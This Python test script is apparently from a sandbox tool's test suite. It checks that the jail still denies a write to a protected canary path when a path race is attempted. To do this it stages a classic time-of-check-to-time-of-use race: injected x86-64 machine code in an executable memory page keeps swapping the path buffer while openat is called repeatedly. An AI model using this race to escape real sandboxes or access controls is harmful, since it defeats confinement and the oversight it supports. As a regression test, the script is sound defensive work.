# SPDX-License-Identifier: Apache-2.0
# tries: rewrite the path of an open for writing while the call is on its way (S01)
# proof: changed
# options: --allow-read=@WORK@ --allow-write=@WORK@
# expect: openat write allow * @WORK@/file
# expect: openat write deny EACCES @CANARY@/file
#
# The oldest hole of system call wrappers (Watson, 2007): the jail reads a path that may be written
# and says yes, another thread stores a different path, and the kernel reads that one.  The thread
# is machine code, so that it needs no interpreter lock.  Without a jail there is no check to race
# against and the control wins at once.

import ctypes
import mmap
import os
import threading
import time

SYS_openat = 257
AT_FDCWD = -100
SECONDS = 1

# void flip(text, a, b, size, stop): now one, now the other, until *stop is set
CODE = bytes.fromhex('4989f9 4989ca'         # mov r9, rdi; mov r10, rcx
                     '4c89cf 4c89d1 f3a4'    # mov rdi, r9; mov rcx, r10; rep movsb
                     '4c29d6 4887f2'         # sub rsi, r10; xchg rsi, rdx
                     'b964000000 f390 e2fc'  # mov ecx, 100; pause; loop
                     '41833800 74e3 c3')     # cmp dword [r8], 0; je to the second line; ret
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
flip = ctypes.CFUNCTYPE(None, ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_size_t,
                        ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(page)))

libc = ctypes.CDLL(None)
try:
    open('@WORK@/file', 'w').close()
except OSError:
    pass
allowed, protected = b'@WORK@/file', b'@CANARY@/file'
size = max(len(allowed), len(protected))
path, stop = ctypes.create_string_buffer(size + 1), ctypes.c_int(0)
thread = threading.Thread(target=flip, args=(ctypes.addressof(path), allowed.rjust(size, b'/'),
                                             protected.rjust(size, b'/'), size,
                                             ctypes.addressof(stop)))
thread.start()
end = time.monotonic() + SECONDS
while time.monotonic() < end:
    fd = libc.syscall(SYS_openat, AT_FDCWD, path, os.O_WRONLY | os.O_TRUNC)
    if fd >= 0:
        os.close(fd)
stop.value = 1
thread.join()
